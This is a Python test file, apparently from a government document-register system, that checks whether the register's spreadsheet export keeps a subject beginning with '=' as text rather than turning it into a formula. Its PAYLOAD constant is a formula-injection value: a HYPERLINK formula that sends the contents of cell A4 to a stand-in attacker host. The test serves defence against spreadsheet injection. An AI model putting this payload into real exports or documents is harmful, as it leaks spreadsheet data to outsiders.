"""The incoming register's export writes what the sender wrote: a subject or a sender's name
beginning with "=" (another organisation's system, or someone behind it) must stay text in the
clerk's spreadsheet, never a formula (the decisions' register: tests/decisions/
test_register_exports_injection.py; the guard: ecabinet.registers.exports)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from tests.interchange.incoming.conftest import deliver, hand_over, numbered
from tests.interchange.incoming.test_pages import signed_in
from tests.interchange.incoming.test_workflow import people  # noqa: F401 - the fixture

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A4,"Xem chi tiết")'


def test_xlsx_subject_is_not_a_formula(ministry, people, test_pki, pdfs):  # noqa: F811
    deliver(ministry, numbered(test_pki, pdfs.signed, 42, subject=PAYLOAD))
    hand_over(ministry)
    clerk = signed_in(ministry, people["clerk"][0])
    response = clerk.get("/interchange/incoming?format=xlsx")
    assert response.status_code == 200
    (row,) = load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=4)
    subject = row[6]
    assert subject.data_type != "f", f"the subject is stored as a formula: {subject.value!r}"
    assert subject.value == PAYLOAD
